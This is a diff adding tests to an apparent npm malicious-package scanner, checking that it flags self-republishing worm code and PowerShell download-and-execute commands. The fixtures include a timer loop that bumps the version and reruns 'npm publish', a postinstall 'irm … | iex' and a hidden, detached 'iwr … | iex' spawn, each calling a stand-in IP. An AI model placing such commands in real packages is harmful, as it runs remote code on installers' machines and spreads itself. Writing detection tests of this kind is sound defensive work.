@@ -1664,3 +1664,41 @@ fs.appendFileSync('.npmrc', '//registry.example.com/:_authToken=\${NPM_TOKEN}\\n
     expect(r.evidence.map((f) => f.rule)).not.toContain('js.write-persistence');
   });
 });
+
+describe('npm publish outside install: a release script or a worm', () => {
+  const publish = (code: string) =>
+    analyzeSource({ 'package.json': pkg(), 'index.js': code }).evidence.find(
+      (f) => f.rule === 'js.exec-npm-publish',
+    );
+  it('a release script publishing with the maintainer login stays below a warning', () => {
+    expect(
+      publish(`const { execSync } = require('child_process');
+if (require.main === module) { execSync('npm test'); execSync('npm publish --access public'); }`)?.confidence,
+    ).toBeLessThan(0.5);
+  });
+  it('a manifest renamed and published again from a timer is self-propagation', () => {
+    expect(
+      publish(`const fs = require('fs'); const { exec } = require('child_process');
+function again() { const m = JSON.parse(fs.readFileSync('package.json')); m.version = m.version + '-1';
+  fs.writeFileSync('package.json', JSON.stringify(m)); exec('npm publish', () => setTimeout(again, 5000)); }
+again();`)?.confidence,
+    ).toBeGreaterThanOrEqual(0.8);
+  });
+});
+
+describe('PowerShell download piped into iex, from a lifecycle script and from an argument list', () => {
+  it('irm … | iex in a postinstall, and iwr … | iex given to spawn as one argument', () => {
+    const r = analyzeSource({
+      'package.json': pkg({
+        scripts: { postinstall: 'powershell -NoP -c "irm http://198.51.100.8/p.ps1 | iex"' },
+      }),
+      'index.js': `const cp = require('child_process');
+const opts = { windowsHide: true, detached: true, stdio: ['ignore', 'ignore', 'ignore'] };
+cp.spawn('powershell.exe', ['-w', 'hidden', '-c', 'iwr http://203.0.113.44/x.ps1 | iex'], opts).unref();`,
+    });
+    const rules = r.evidence.map((f) => f.rule);
+    expect(rules).toEqual(
+      expect.arrayContaining(['shell.powershell-download', 'js.exec-powershell-download']),
+    );
+  });
+});
